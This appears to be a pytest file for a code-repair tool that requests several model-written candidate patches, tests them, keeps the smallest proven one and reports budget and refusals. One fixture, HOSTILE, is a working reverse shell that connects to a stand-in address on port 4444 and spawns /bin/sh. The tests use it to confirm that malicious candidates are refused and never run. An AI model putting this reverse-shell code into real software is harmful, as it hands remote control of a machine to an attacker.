"""Several candidates in each round: asked at once, measured at once, the best one kept, the others told."""

import json
import re
from pathlib import Path

from core.runs import Verdict
from core.statement.envelope import unseal
from tests.fakes.dialects import OPENAI, Tokens
from tests.fakes.model_server import ModelServer
from tests.fakes.warm_server import warm_server
from tests.stories.stage import RIGHT, WRONG, whole
from tests.worker.candidates.shop import Shop, at, steps

LONGER = RIGHT.replace("    return", "    # width times height\n    return")
OTHER = WRONG.replace("+", "-")
HALF = WRONG.replace("width + height", "6 if width == 2 else 0")  # one of the two examples
HOSTILE = (
    "import os, socket, subprocess\n\n\ndef area(width, height):\n"
    '    line = socket.create_connection(("203.0.113.9", 4444))\n'
    '    os.dup2(line.fileno(), 0)\n    os.dup2(line.fileno(), 1)\n    subprocess.call(["/bin/sh", "-i"])\n'
    "    return width * height\n"
)
_TIMES = re.compile(r'"(?:\w*elapsed_s|duration_s|peak_bytes)": [^,\n}]+|\d+\.\d+ ?s\b')


def said(text: str) -> str:
    return whole("shapes.py", text)


def facts(report: bytes) -> str:
    """A JSON report without what every run has of its own: times, its number, its branch."""
    return _TIMES.sub("", json.dumps(json.loads(report)["run"]["attempts"], indent=1, sort_keys=True))


def test_the_one_that_is_proven_is_kept_and_a_recording_gives_the_same_again(tmp_path: Path) -> None:
    shop, tape = Shop(tmp_path / "first"), tmp_path / "tape.json"
    with warm_server({0.0: [said(WRONG)], 0.7: [said(RIGHT)], 1.0: [said(WRONG)]}) as server:
        shop.settings = {"PULLWRIGHT_LOCAL_URL": server.url}
        done = shop.runs("local:tiny", tape=tape)
        assert len(server.asked) == 3
    run = done.report.run
    assert (run.verdict, run.best, run.why, run.candidates) == (Verdict.PROVEN, 2, "Attempt 2 is proven.", 3)
    assert [(one.number, one.verdict, one.same_as) for one in run.attempts] == [
        (1, Verdict.FAILED, None),
        (2, Verdict.PROVEN, None),
        (3, Verdict.FAILED, 1),
    ]
    assert (len(run.calls), run.usage.input_tokens) == (3, 300)
    begun = steps(shop.heard)
    assert begun.count("baseline") == 1
    assert {"tests, candidate 1", "tests, candidate 2"} <= set(begun)
    assert "tests, candidate 3" not in begun, "the same tree was measured twice"
    told = " ".join(done.files["markdown"].read_text().replace("\\", "").split())
    assert "Attempt 2 (round 1, candidate 2), kept: proven" in told
    assert "Attempt 3 (round 1, candidate 3): failed, the same change as attempt 1, so it was measured once" in told
    payload = json.loads(unseal(done.files["statement"].read_bytes()).payload)["predicate"]
    assert (payload["run"]["candidates"], len(payload["attempts"]), payload["cost"]["calls"]) == (3, 3, 3)
    second, third = (Shop(tmp_path / again).runs(f"scripted:{tape}").files for again in ("second", "third"))
    assert second["patch"].read_bytes() == third["patch"].read_bytes() == done.files["patch"].read_bytes()
    assert facts(second["json"].read_bytes()) == facts(third["json"].read_bytes())


def test_of_two_that_are_proven_the_smaller_change_is_kept(tmp_path: Path) -> None:
    shop = Shop(tmp_path)
    with warm_server({0.0: [said(LONGER)], 0.7: [said(RIGHT)], 1.0: [said(HOSTILE)]}) as server:
        shop.settings = {"PULLWRIGHT_LOCAL_URL": server.url}
        done = shop.runs("local:tiny", attempts=3)
    run = done.report.run
    assert [one.verdict for one in run.attempts] == [Verdict.PROVEN, Verdict.PROVEN, Verdict.REFUSED]
    assert run.best == 2
    assert any(note.startswith("Attempt 3 was refused: ") for note in done.report.notes), done.report.notes
    assert "tests, candidate 3" not in steps(shop.heard), "what is refused never runs"


def test_the_next_round_repairs_the_best_one_and_hears_what_else_failed(tmp_path: Path) -> None:
    shop = Shop(tmp_path)
    with ModelServer() as server:
        server.will(*(OPENAI.whole(said(text)) for text in (HALF, OTHER, RIGHT)))
        done = shop.runs("openai:gpt-4.1-mini", candidates=2, attempts=2, tools=at(shop.tools(), server.url))
        asked = [json.dumps(one.body) for one in server.asked]
    run = done.report.run
    half = next(one.number for one in run.attempts[:2] if one.evidence and one.evidence.red_to_green)
    repair, fresh = (strategy for number, strategy in sorted(shop.heard.proposed) if number > 2)
    assert (repair.kind, repair.of_attempt, repair.round, fresh.kind) == ("repair", half, 2, "fresh")
    told = [body for body in asked if "This is not right yet" in body]
    assert len(told) == 1 and "Other solutions failed like this" in told[0]
    assert (run.verdict, run.best, run.attempts[3].same_as) == (Verdict.PROVEN, 3, 3)


def test_a_malicious_candidate_ends_the_run_where_none_is_proven(tmp_path: Path) -> None:
    shop = Shop(tmp_path)
    with warm_server({0.0: [said(WRONG)], 0.7: [said(HOSTILE)]}) as server:
        shop.settings = {"PULLWRIGHT_LOCAL_URL": server.url}
        done = shop.runs("local:tiny", candidates=2, attempts=3)
        assert len(server.asked) == 2
    run = done.report.run
    assert run.why.startswith("Attempt 2 was refused: ")
    assert (run.verdict, run.best) == (Verdict.FAILED, 1)


def test_a_budget_for_two_of_three_asks_two_and_says_so(tmp_path: Path) -> None:
    shop = Shop(tmp_path)
    with ModelServer() as server:
        server.will(OPENAI.whole(said(RIGHT), tokens=Tokens(100, 20)))
        tools = at(shop.tools(), server.url)
        none = shop.runs("openai:gpt-4.1-mini", budget=0.000001, tools=tools)
        assert (none.report.run.verdict, server.asked) == (Verdict.FAILED, [])
        worst = re.search(r"may cost \$([\d.]+\d)", none.report.run.why)
        assert worst, none.report.run.why
        done = shop.runs("openai:gpt-4.1-mini", budget=2.5 * float(worst[1]), tools=tools)
        assert len(server.asked) == 2
    run = done.report.run
    assert (run.verdict, len(run.attempts), run.attempts[1].same_as) == (Verdict.PROVEN, 2, 1)
    assert 0 < run.cost_usd == sum(call.cost_usd or 0 for call in run.calls)
    note = next(note for note in done.report.notes if "2 of 3 candidates were asked in round 1" in note)
    assert "as many as the budget allows" in note


def test_who_has_no_answer_is_said_and_the_others_go_on(tmp_path: Path) -> None:
    shop = Shop(tmp_path)
    with ModelServer() as server:
        server.will(OPENAI.refusal(400, "the prompt is too long"), OPENAI.whole(said(RIGHT)))
        done = shop.runs("openai:gpt-4.1-mini", candidates=2, tools=at(shop.tools(), server.url))
    run = done.report.run
    assert (run.verdict, len(run.attempts), len(run.calls)) == (Verdict.PROVEN, 1, 2)
    assert any("has no proposal: " in note for note in done.report.notes), done.report.notes
